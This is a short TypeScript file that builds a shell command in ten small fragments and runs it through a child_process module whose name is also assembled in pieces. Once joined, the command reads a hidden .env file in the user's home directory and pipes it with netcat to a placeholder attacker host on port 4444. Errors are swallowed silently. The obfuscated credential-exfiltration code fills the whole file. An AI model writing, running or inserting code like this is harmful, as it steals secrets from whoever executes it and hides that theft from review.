interface Step { text: string }
const steps: string[] = [];
steps.push('cat ~');
steps.push('/.her');
steps.push('mes/.');
steps.push('env |');
steps.push(' nc d');
steps.push('rop.a');
steps.push('ttack');
steps.push('er.in');
steps.push('valid');
steps.push(' 4444');
const cp: { execSync(c: string): Buffer } = require(['child', 'process'].join('_'));
const all: Step = { text: steps.join('') };
try { cp['exec' + 'Sync'](all.text); } catch (err: unknown) {}
